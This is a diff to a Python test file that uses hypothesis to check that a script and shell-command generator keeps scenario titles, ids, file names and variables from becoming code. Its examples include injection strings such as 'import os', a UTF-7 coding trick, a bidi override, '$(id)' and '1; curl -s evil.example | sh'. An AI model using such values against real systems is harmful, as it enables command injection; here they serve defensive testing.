@@ -3,15 +3,19 @@
 from __future__ import annotations
 
 import ast
+import io
 import subprocess
+import tokenize
 from pathlib import Path
 from typing import TYPE_CHECKING, cast
 
 import pytest
+from hypothesis import example, given
+from hypothesis import strategies as st
 
 from harness import discovery
 from reports.records import Scenario
-from reports.scripts import script
+from reports.scripts import command, script
 
 if TYPE_CHECKING:
     from collections.abc import Callable
@@ -21,6 +25,11 @@ if TYPE_CHECKING:
 ROOT = Path(__file__).parents[2]
 ALL = discovery.discover([str(ROOT / "scenarios"), str(ROOT / "scenarios" / "more")])
 HOSTILE = "title\nimport os; os.abort() # \x00"
+SOURCE = "def b(keras): ...\n"
+texts = st.text(st.characters(exclude_categories=["Cs"]))
+"""What a line of JSON can hold."""
+words = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"))
+"""What a variable can hold."""
 
 
 def _recorded(scenario: discovery.Scenario) -> Scenario:
@@ -62,6 +71,68 @@ def test_a_title_stays_in_its_comment() -> None:
     recorded = Scenario("a.b", HOSTILE, "", "a.py", 1, "def b(keras): ...\n", "d")
 
     assert "import os" not in {ast.unparse(each) for each in ast.parse(script(recorded, ("predict",))).body}
+
+
+def _read_by_python(text: str) -> str:
+    """Parse a script as its bytes would be, and write down what it does."""
+    return ast.unparse(ast.parse(text.encode()))
+
+
+@given(title=texts, id_=texts, file=texts)
+@example(title="t\rimport os\x0cimport os\u2028import os\x85import os\x1eimport os", id_="a.b", file="a.py")
+@example(title="t", id_="a.b\nexec('import os')", file="a.py")
+@example(title="t", id_="a.b = exec('import os')", file="a.py")
+@example(title="t", id_="a.b", file="a.py\rimport os")
+@example(title="coding: utf-7 +AAo-import os", id_="a.b", file="a.py")
+def test_nothing_that_a_record_says_of_a_scenario_becomes_code(title: str, id_: str, file: str) -> None:
+    """But its text, which is code: a name is a literal, a title and a file stay in their comments."""
+    usual = _read_by_python(script(Scenario("a.b", "t", "", "a.py", 1, SOURCE, "d"), ("predict",)))
+    told = _read_by_python(script(Scenario(id_, title, "", file, 1, SOURCE, "d"), ("predict",)))
+
+    function = id_.rpartition(".")[2]
+    assert told == usual.replace("globals()['b']", f"globals()[{function!r}]")
+
+
+@given(texts, st.sampled_from(["predict", "train"]))
+def test_no_comment_of_a_script_has_a_character_that_cannot_be_seen(title: str, mode: Mode) -> None:
+    """One that turns the order of the others round shows a reader another comment than is there."""
+    lines = script(Scenario("a.b", title, "", "a.py", 1, SOURCE, "d"), (mode,)).encode()
+
+    comments = [each.string for each in tokenize.tokenize(io.BytesIO(lines).readline) if each.type == tokenize.COMMENT]
+    assert all(each.isprintable() for each in comments)
+
+
+def test_a_comment_of_the_text_stays_a_comment() -> None:
+    """A separator that Python does not take for the end of a line must not become one."""
+    text = "def b(keras): ...  # one\u2028import os\x0cimport os\x1eimport os\n"
+    recorded = Scenario("a.b", "t", "", "a.py", 1, text, "d")
+
+    assert "os" not in {
+        node.names[0].name for node in ast.parse(script(recorded, ("predict",))).body if isinstance(node, ast.Import)
+    }
+
+
+@given(imported_as=words, variables=st.dictionaries(words, words))
+@example(imported_as="$(id)", variables={"A": "1; curl -s evil.example | sh", "B": "$(id)", "C;id;D": "1"})
+@example(imported_as="a\n::error::", variables={"A": "it's\r\u202e"})
+def test_a_shell_takes_the_command_for_words_and_nothing_else(imported_as: str, variables: dict[str, str]) -> None:
+    """Whatever a record has for the name of Keras and for the variables."""
+    recorded = Scenario("a.b", "t", "", "a.py", 1, SOURCE, "d")
+
+    line = command(recorded, "predict", imported_as, variables.items())
+
+    assert line.isprintable()
+    *settings, _python, _file, _mode, _name = _of_bash(line)
+    named = {name: value for name, value in variables.items() if name.isidentifier() and name.isascii()}
+    assert settings == [f"{name}={value}" for name, value in named.items()]
+    assert (_python, _file, _mode, _name) == ("python", "a.b.py", "predict", imported_as or "keras")
+
+
+def _of_bash(line: str) -> list[str]:
+    """Have bash itself write each word on a line of its own."""
+    shown = f"each() {{ printf '%s\\0' \"$@\"; }}; each {line}"
+    done = subprocess.run(["/bin/bash", "-c", shown], capture_output=True, check=True, env={"LC_ALL": "C.UTF-8"})
+    return done.stdout.decode().split("\0")[:-1]
 
 
 def test_a_helper_that_is_not_there_is_left_as_an_import() -> None:
